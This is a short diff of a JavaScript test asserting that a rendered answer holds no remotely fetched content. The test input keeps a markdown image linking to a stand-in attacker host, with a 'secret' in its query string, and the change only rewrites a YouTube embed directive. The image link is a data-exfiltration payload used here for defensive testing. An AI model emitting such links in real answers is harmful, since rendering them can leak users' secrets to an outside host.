@@ -17,7 +17,7 @@ const names = new Map([
 
 it('nothing in an answer is fetched from elsewhere', () => {
   const { nodes } = readAnswer(
-    'Words ![x](https://evil.example/?q=secret)\n\n\n\n:::youtube\nhttps://www.youtube.com/watch?v=aaaaaaaaaaa\n:::',
+    'Words ![x](https://evil.example/?q=secret)\n\n\n\n:::youtube {src="https://youtu.be/dQw4w9WgXcQ"} :::',
   )
   expect(JSON.stringify(nodes)).not.toMatch(/evil|"youtube"/)
 })
